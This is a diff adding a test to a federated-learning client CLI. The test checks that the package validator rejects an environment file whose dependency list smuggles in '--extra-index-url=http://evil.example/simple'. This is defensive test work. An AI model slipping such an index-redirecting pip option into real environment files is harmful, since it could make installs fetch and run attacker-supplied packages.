@@ -96,3 +96,18 @@ def test_policy_show_prints_the_policy_file_and_flags(tmp_path: Path) -> None:
     assert "read-only package directory: yes" in out
     bad = run_cli("policy", "show", "--policy-file", str(tmp_path / "missing.yaml"), cwd=tmp_path)
     assert bad.returncode == 2 and bad.stderr.startswith("fedclient: error: policy file not found")
+
+
+def test_package_check_refuses_a_python_env_that_changes_where_pip_installs_from(tmp_path: Path) -> None:
+    pkg = tmp_path / "pkg"
+    pkg.mkdir()
+    (pkg / "fedn.yaml").write_text(
+        "python_env: env.yaml\nentry_points:\n  train:\n    command: python t.py\n"
+    )
+    (pkg / "env.yaml").write_text(
+        "dependencies:\n  - numpy\n  - --extra-index-url=http://evil.example/simple\n"
+    )
+    result = run_cli("package", "check", str(pkg), cwd=tmp_path)
+    assert result.returncode == 1, result.stderr
+    [problem] = [line for line in result.stdout.splitlines() if line.startswith("problem: ")]
+    assert "'--extra-index-url=http://evil.example/simple' is a pip option, not a requirement" in problem
